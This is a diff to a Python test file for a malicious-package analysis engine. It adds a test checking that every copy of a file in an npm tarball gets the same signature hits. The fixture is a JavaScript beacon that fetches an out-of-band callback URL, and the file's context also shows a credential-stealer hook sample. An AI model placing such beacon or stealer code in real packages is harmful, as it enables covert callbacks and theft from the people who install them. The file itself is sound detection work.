@@ -4,6 +4,7 @@ import hashlib
 
 from tests.analysis.builders import npm_tarball, sdist, wheel
 from threatfeed.analysis import ENGINE_VERSION, FLAG_THRESHOLD, Engine
+from threatfeed.archives import read_archive
 
 STEALER_HOOK = """
 const https = require("https");
@@ -88,3 +89,23 @@ def test_hostile_contents_never_raise(engine: Engine) -> None:
         analysis = engine.analyze(data)
         assert isinstance(analysis.score, float)
         assert 0.0 <= analysis.score < 1.0
+
+
+def test_every_copy_of_a_file_carries_its_signature_hits(engine: Engine) -> None:
+    beacon = 'fetch("https://collector.example.oast.fun/x");\n'
+    files = {"lib/a.js": beacon, "lib/copy/a.js": beacon, "lib/b.js": beacon + "// more\n"}
+    package = engine.prepare(read_archive(npm_tarball(files)))
+    hit_rules = {
+        source.rel: {hit.rule for hit in source.signatures}
+        for source in package.files
+        if source.rel.startswith("lib/")
+    }
+    assert hit_rules["lib/a.js"] == hit_rules["lib/copy/a.js"] == hit_rules["lib/b.js"]
+    assert "oast_url" in hit_rules["lib/a.js"]
+    analysis = engine.analyze(npm_tarball(files))
+    urls = analysis.indicators["suspicious_url_references_rule"]
+    assert {item["file"] for item in urls} == {
+        "package/lib/a.js",
+        "package/lib/copy/a.js",
+        "package/lib/b.js",
+    }
